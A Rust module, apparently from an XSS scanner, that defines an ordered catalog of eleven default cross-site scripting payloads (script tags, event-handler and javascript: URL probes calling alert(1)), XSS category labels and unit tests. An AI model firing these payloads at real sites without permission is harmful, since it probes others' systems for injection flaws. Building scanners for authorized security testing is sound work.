use std::fmt;

use serde::Serialize;

pub const DEFAULT_PAYLOADS: &[&str] = &[
    r#"<img src="x" onerror="alert(1)">"#,
    "<script>alert(1)</script>",
    r#"<a href="javascript:alert(1)">Click Me</a>"#,
    r#""><script>alert(1)</script>"#,
    "<svg/onload=alert(1)>",
    r#"<iframe src="javascript:alert(1)"></iframe>"#,
    r#""><img src="x" onerror="alert(1)">"#,
    r#"<body onload="alert(1)">"#,
    r#"" onmouseover="alert(1)">"#,
    r#"<div style="background:url(javascript:alert(1))">x</div>"#,
    r#"<input type="text" value="x" onfocus="alert(1)">"#,
];

/// Ordered, immutable payload catalog. Catalog order defines report order.
#[derive(Debug, Clone)]
pub struct Catalog {
    payloads: Vec<String>,
}

impl Catalog {
    pub fn new(payloads: Vec<String>) -> Catalog {
        Catalog { payloads }
    }

    pub fn iter(&self) -> std::slice::Iter<'_, String> {
        self.payloads.iter()
    }

    pub fn len(&self) -> usize {
        self.payloads.len()
    }

    pub fn is_empty(&self) -> bool {
        self.payloads.is_empty()
    }
}

impl Default for Catalog {
    fn default() -> Catalog {
        Catalog::new(DEFAULT_PAYLOADS.iter().map(|p| p.to_string()).collect())
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Category {
    Reflected,
    Stored,
    Blind,
    Dom,
}

impl Category {
    pub const ALL: [Category; 4] = [
        Category::Reflected,
        Category::Stored,
        Category::Blind,
        Category::Dom,
    ];

    pub fn label(&self) -> &'static str {
        match self {
            Category::Reflected => "Reflected XSS",
            Category::Stored => "Stored XSS",
            Category::Blind => "Blind XSS (acceptance probe)",
            Category::Dom => "DOM XSS",
        }
    }
}

impl fmt::Display for Category {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.label())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn default_catalog_preserves_reference_order() {
        let catalog = Catalog::default();
        assert_eq!(catalog.len(), DEFAULT_PAYLOADS.len());
        for (got, want) in catalog.iter().zip(DEFAULT_PAYLOADS) {
            assert_eq!(got, want);
        }
    }

    #[test]
    fn catalog_is_substitutable() {
        let catalog = Catalog::new(vec!["MARKER".to_string()]);
        assert_eq!(catalog.len(), 1);
        assert_eq!(catalog.iter().next().map(String::as_str), Some("MARKER"));
    }

    #[test]
    fn categories_serialize_lowercase() {
        let json = serde_json::to_string(&Category::Reflected).unwrap();
        assert_eq!(json, "\"reflected\"");
        let json = serde_json::to_string(&Category::Dom).unwrap();
        assert_eq!(json, "\"dom\"");
    }
}
